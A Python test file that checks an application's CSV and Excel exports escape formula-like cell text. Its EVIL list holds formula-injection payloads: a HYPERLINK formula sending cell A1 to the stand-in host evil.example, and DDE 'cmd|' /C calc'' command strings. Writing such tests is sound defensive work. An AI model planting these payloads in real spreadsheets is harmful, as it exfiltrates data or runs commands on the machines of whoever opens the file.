"""Every spreadsheet and CSV Fazhi writes is formula-safe (core.spreadsheets): a typed text
that starts with = + - @, a tab or a CR reaches the file with a leading single quote."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from fazhi.audit.services import audit_record
from fazhi.cases.models import Category
from fazhi.cases.tests.factories import applicant, make_case
from fazhi.core.spreadsheets import FORMULA_STARTS, safe_cell
from fazhi.org.models import Person, Unit
from fazhi.outreach.models import Activity, ListItem, ResponsibilityList, SignIn

pytestmark = pytest.mark.django_db

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
        "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _cells(response) -> list[str]:
    if response["Content-Type"].startswith("text/csv"):
        text = response.content.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    book = load_workbook(io.BytesIO(response.content))
    return [str(cell) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True)
            for cell in row if cell is not None]


@pytest.fixture
def evil_world(street_admin, north, subdistrict):
    north.name = EVIL[0]
    north.save()
    Category.objects.filter(code="neighbour").update(name=EVIL[1])
    for text in EVIL:
        make_case(street_admin, north, title=text, address=text,
                  parties=[applicant(name=text[1:] if text[0] in "\t\r" else text)])
    unit = Unit.objects.create(name=EVIL[2], kind=Unit.Kind.POLICE_STATION, region=subdistrict,
                               is_member_unit=True)
    for text in EVIL:
        Person.objects.create(name=text, kind=Person.Kind.LAW_SAVVY, community=north, unit=unit,
                              title=text, certificate_no=text[:30])
    audit_record(actor=street_admin, action=EVIL[3][:20], object_repr=EVIL[4], detail=EVIL[5])
    start = timezone.make_aware(dt.datetime(2026, 3, 10, 9))
    activity = Activity.objects.create(kind=Activity.Kind.LECTURE_HALL, title=EVIL[0],
                                       starts_at=start, ends_at=start + dt.timedelta(hours=2),
                                       venue=EVIL[1], code="c000001", community=north)
    for i, text in enumerate(EVIL):
        SignIn.objects.create(activity=activity, name_enc="x", name_masked=text,
                              mobile_enc="x", mobile_hash=f"h{i}", mobile_masked="138****5678",
                              affiliation=text[:80], community=north)
    lst = ResponsibilityList.objects.create(unit=unit, year=2026)
    for i, text in enumerate(EVIL, start=1):
        ListItem.objects.create(responsibility_list=lst, position=i, laws=text, audience=text,
                                channels=text, planned_count=1, quarter=1, leader=text,
                                person=text, office=text, standard=text, key_dates="")
    return {"activity": activity, "list": lst}


def test_every_export_writes_typed_formulas_as_text(as_user, street_admin, auditor, evil_world):
    admin = as_user(street_admin)
    activity, lst = evil_world["activity"], evil_world["list"]
    exports = {
        "cases csv": admin.get("/cases/export/", {"format": "csv"}),
        "cases xlsx": admin.get("/cases/export/", {"format": "xlsx"}),
        "statistics xlsx": admin.get("/cases/statistics/", {"format": "xlsx"}),
        "people csv": admin.get("/org/people/export/", {"format": "csv"}),
        "people xlsx": admin.get("/org/people/export/", {"format": "xlsx"}),
        "sign-ins xlsx": admin.get(f"/outreach/{activity.pk}/signins.xlsx"),
        "reach xlsx": admin.get("/outreach/reach.xlsx", {"year": 2026}),
        "list xlsx": admin.get(f"/outreach/lists/{lst.pk}/export.xlsx"),
        "audit csv": as_user(auditor).get("/audit/export.csv"),
    }
    for name, response in exports.items():
        assert response.status_code == 200, name
        cells = _cells(response)
        assert [c for c in cells if c.startswith(FORMULA_STARTS)] == [], name
        assert any(c.startswith("'") and c[1:] in EVIL for c in cells), name


def test_a_safe_cell_keeps_numbers_and_plain_text():
    assert [safe_cell(v) for v in (-3, 2.5, None, "张三", "a=b", "'=x")] == [
        -3, 2.5, None, "张三", "a=b", "'=x"]
    assert [safe_cell(v) for v in EVIL] == ["'" + v for v in EVIL]
